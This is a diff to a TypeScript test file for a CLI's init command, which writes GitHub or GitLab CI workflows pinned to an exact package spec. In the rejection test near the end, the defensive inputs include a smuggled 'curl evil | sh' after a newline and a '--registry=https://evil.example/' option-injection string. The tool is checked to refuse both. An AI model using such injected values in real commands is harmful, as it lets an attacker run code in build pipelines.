@@ -9,9 +9,21 @@ import { TEMPLATES } from '../core/scaffold/templates.js';
 import { loadRegistry } from '../io/registry.js';
 import { ScriptedPrompter } from '../ui/prompter.js';
 import { git } from '../../test/helpers/temp-repo.js';
-import { runInit } from './init.js';
+import type { IdeasError } from '../core/errors.js';
+import { runInit, type InitOptions } from './init.js';
 
 const examples = fileURLToPath(new URL('../../examples/', import.meta.url));
+const pkg = JSON.parse(fs.readFileSync(new URL('../../package.json', import.meta.url), 'utf8')) as {
+  name: string;
+  version: string;
+};
+const OWN_SPEC = `${pkg.name}@${pkg.version}`;
+const github = (file: string, status = 'written', spec = OWN_SPEC) => ({
+  file,
+  status,
+  provider: 'github',
+  package: spec,
+});
 
 let dir: string;
 beforeEach(() => {
@@ -76,7 +88,7 @@ describe('runInit', () => {
       }
       const exampleConfig = loadRegistry(path.join(examples, template?.example ?? ''), 'en').config;
       expect(config.stages).toEqual(exampleConfig.stages);
-      expect(r.ci).toEqual({ file: '.github/workflows/ideas.yml', status: 'written' });
+      expect(r.ci).toEqual(github('.github/workflows/ideas.yml'));
       const workflow = fs.readFileSync(path.join(root, '.github/workflows/ideas.yml'), 'utf8');
       expect(workflow).toContain('ideas validate --changed --format github\n');
       expect(workflow).toContain(lang === 'sv' ? '# Kontrollerar idéslussen' : '# Checks the idea sluice');
@@ -85,7 +97,7 @@ describe('runInit', () => {
 
   it('writes no workflow with --no-ci', async () => {
     const r = await runInit({ template: 'minimal', ci: false }, ctx());
-    expect(r.ci).toEqual({ file: null, status: 'off' });
+    expect(r.ci).toEqual({ file: null, status: 'off', provider: null, package: null });
     expect(r.files).not.toContain('.github/workflows/ideas.yml');
     expect(fs.existsSync(path.join(dir, '.github'))).toBe(false);
   });
@@ -94,7 +106,7 @@ describe('runInit', () => {
     fs.mkdirSync(path.join(dir, '.github/workflows'), { recursive: true });
     fs.writeFileSync(path.join(dir, '.github/workflows/ideas.yml'), 'mine\n');
     const r = await runInit({ template: 'minimal' }, ctx());
-    expect(r.ci).toEqual({ file: '.github/workflows/ideas.yml', status: 'exists' });
+    expect(r.ci).toEqual(github('.github/workflows/ideas.yml', 'exists'));
     expect(r.files).not.toContain('.github/workflows/ideas.yml');
     expect(fs.readFileSync(path.join(dir, '.github/workflows/ideas.yml'), 'utf8')).toBe('mine\n');
     expect(fs.existsSync(path.join(dir, 'ideas.config.yaml'))).toBe(true);
@@ -103,12 +115,70 @@ describe('runInit', () => {
   it('puts the workflow at the top of the git work tree, naming a registry in a subfolder with --registry', async () => {
     git(['init', '-q', '-b', 'main'], dir);
     const r = await runInit({ dir: 'kommuner/sundsvall', template: 'minimal', lang: 'en' }, ctx());
-    expect(r.ci).toEqual({ file: '../../.github/workflows/ideas.yml', status: 'written' });
+    expect(r.ci).toEqual(github('../../.github/workflows/ideas.yml'));
     expect(r.files).toContain('../../.github/workflows/ideas.yml');
     const workflow = fs.readFileSync(path.join(dir, '.github/workflows/ideas.yml'), 'utf8');
     expect(workflow).toContain('      - kommuner/sundsvall/**\n');
     expect(workflow).toContain('run: ideas validate --changed --format github --registry kommuner/sundsvall\n');
     expect(fs.existsSync(path.join(dir, 'kommuner/sundsvall/.github'))).toBe(false);
+  });
+
+  it('pins the workflow to this package at the running version', async () => {
+    await runInit({ template: 'minimal' }, ctx());
+    const workflow = fs.readFileSync(path.join(dir, '.github/workflows/ideas.yml'), 'utf8');
+    expect(workflow).toContain(`  IDEAS_PACKAGE: ${OWN_SPEC}\n`);
+    expect(OWN_SPEC).toMatch(/^idesluss@\d+\.\d+\.\d+/);
+  });
+
+  it('writes the spec given with --package instead', async () => {
+    const spec = 'git+https://github.com/kommun/ideas.git#0123456789abcdef0123456789abcdef01234567';
+    const r = await runInit({ template: 'minimal', package: spec }, ctx());
+    expect(r.ci).toEqual(github('.github/workflows/ideas.yml', 'written', spec));
+    const workflow = fs.readFileSync(path.join(dir, '.github/workflows/ideas.yml'), 'utf8');
+    expect(workflow).toContain(`  IDEAS_PACKAGE: ${spec}\n`);
+    expect(workflow).not.toContain(OWN_SPEC);
+  });
+
+  it('writes .gitlab-ci.yml with --ci gitlab, and no GitHub workflow', async () => {
+    git(['init', '-q', '-b', 'main'], dir);
+    const r = await runInit({ dir: 'reg', template: 'minimal', ci: 'gitlab', package: 'file:vendor/x.tgz' }, ctx());
+    expect(r.ci).toEqual({
+      file: '../.gitlab-ci.yml',
+      status: 'written',
+      provider: 'gitlab',
+      package: 'file:vendor/x.tgz',
+    });
+    const job = fs.readFileSync(path.join(dir, '.gitlab-ci.yml'), 'utf8');
+    expect(job).toContain('    IDEAS_PACKAGE: file:vendor/x.tgz\n');
+    expect(job).toContain('ideas diff --registry reg || failed=1');
+    expect(fs.existsSync(path.join(dir, '.github'))).toBe(false);
+  });
+
+  it('keeps a .gitlab-ci.yml that is there, and says so', async () => {
+    fs.writeFileSync(path.join(dir, '.gitlab-ci.yml'), 'mine\n');
+    const r = await runInit({ template: 'minimal', ci: 'gitlab' }, ctx());
+    expect(r.ci).toEqual({ file: '.gitlab-ci.yml', status: 'exists', provider: 'gitlab', package: OWN_SPEC });
+    expect(fs.readFileSync(path.join(dir, '.gitlab-ci.yml'), 'utf8')).toBe('mine\n');
+  });
+
+  it.each<[string, Partial<InitOptions>, RegExp]>([
+    ['an unpinned --package', { package: 'idesluss@^0.1.0' }, /"idesluss@\^0\.1\.0" .*must be exact/],
+    ['a --package with a newline', { package: 'idesluss@0.1.0\ncurl evil | sh' }, /0\.1\.0\\u\{a\}curl.*character/],
+    ['a --package with an escape', { package: '\u001b[2Jidesluss@0.1.0' }, /"\\u\{1b\}\[2J.*character/],
+    ['a --package that is an option', { package: '--registry=https://evil.example/' }, /none of the forms/],
+    ['a branch of a git --package', { package: 'git+https://example.org/x.git#main' }, /full commit id/],
+    ['--package with --no-ci', { package: OWN_SPEC, ci: false }, /--no-ci/],
+    ['--package with --ci none', { package: OWN_SPEC, ci: 'none' }, /--no-ci/],
+    ['an unknown --ci', { ci: 'travis' }, /"travis".*github, gitlab, none/],
+  ])('refuses %s with USAGE, writing nothing', async (_name, opts, message) => {
+    const error = await runInit({ template: 'minimal', lang: 'en', ...opts }, ctx()).catch((e: unknown) => e);
+    expect(error).toMatchObject({ code: 'USAGE' });
+    const text = (error as IdeasError).text;
+    expect(text.en).toMatch(message);
+    for (const shown of [text.sv, text.en]) {
+      expect([...shown].filter((c) => (c.codePointAt(0) ?? 0) < 0x20 || /[\u007f-\u009f]/.test(c))).toEqual([]);
+    }
+    expect(tree(dir)).toEqual({});
   });
 
   it('makes a Swedish registry when no language is given', async () => {
